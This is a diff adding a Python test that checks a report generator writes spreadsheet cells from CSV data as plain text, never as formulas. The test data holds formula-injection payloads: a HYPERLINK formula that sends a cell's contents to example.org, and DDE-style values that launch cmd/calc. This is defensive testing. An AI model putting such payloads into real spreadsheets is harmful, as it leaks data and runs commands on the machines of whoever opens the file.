@@ -253,3 +253,29 @@ def test_template_script_output_is_byte_identical(tmp_path: Path) -> None:
         assert module.main(["--out", str(tmp_path / folder)]) == 0
     first, second = ((tmp_path / f / "laporan.docx").read_bytes() for f in ("a", "b"))
     assert first == second
+
+
+def test_workbook_cells_from_the_data_are_text_never_formulas(tmp_path: Path) -> None:
+    payloads = {"name": '=HYPERLINK("http://example.org/?d="&B2,"klik")',
+                "kpj": "@SUM(1+1)*cmd|' /C calc'!A0", "kecamatan": "-2+3+cmd|' /C calc'!A0",
+                "desa": "+Bokonusan"}
+    desa = ("Kode Desa,Nama Desa,Kode Kecamatan,Kecamatan\n"
+            f"53.01.04.2003,{payloads['desa']},53.01.04,\"{payloads['kecamatan']}\"\n")
+    ws = make_workspace(tmp_path / "ws", HEADER + aparat_rows(), desa=desa)
+    listed = tmp_path / "bpjs.csv"
+    name = payloads["name"].replace('"', '""')
+    listed.write_text("NIK,Nama,KPJ\n"
+                      f"{nik(serial=1)},\"{name}\",\"{payloads['kpj']}\"\n", encoding="utf-8")
+    result = run("report", "-w", ws, "-o", tmp_path / "out", "--enrolled", listed)
+    assert result.code == 0, result.stderr
+    path = tmp_path / "out" / "report" / "report.xlsx"
+    with zipfile.ZipFile(path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert all(b"<f>" not in archive.read(n) for n in sheets)
+    book = openpyxl.load_workbook(path)
+    cells = {cell.value: cell for sheet in book.worksheets for row in sheet.iter_rows()
+             for cell in row if isinstance(cell.value, str)}
+    for payload in payloads.values():
+        assert payload in cells, payload
+        assert cells[payload].data_type == "s" and cells[payload].quotePrefix, payload
+    assert not cells["Yohanis Tefa"].quotePrefix  # ordinary text stays as it was
